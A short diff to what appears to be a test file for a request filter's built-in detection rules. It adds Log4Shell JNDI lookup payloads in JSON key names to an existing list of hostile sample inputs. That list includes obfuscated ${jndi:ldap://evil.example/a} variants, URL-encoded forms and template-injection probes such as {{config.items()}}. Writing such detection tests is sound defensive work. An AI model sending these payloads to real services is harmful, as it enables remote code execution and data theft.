@@ -70,6 +70,9 @@ class BuiltinRulesTest {
         header("X-Api-Version", "${jndi:ldap://evil.example/a}"), header("X-Forwarded-User", "${${lower:j}ndi:rmi://x/y}"),
         header("User-Agent", "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}"), value("${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}"),
         value("%24%7Bjndi:dns://x%7D"),
+        // ... and as a JSON name whose value is an empty object or array (no value path carries it)
+        json("{\"resourceType\":\"Patient\",\"${jndi:ldap://evil.example/a}\":{}}"),
+        json("{\"resourceType\":\"Patient\",\"extension\":[{\"${jndi:rmi://x/y}\":[]}]}"),
         // template injection
         value("{{7*7}}"), value("${7*7}"), value("#{7*7}"), value("<%= 7*7 %>"), value("{{config.items()}}"),
         // deserialisation gadgets
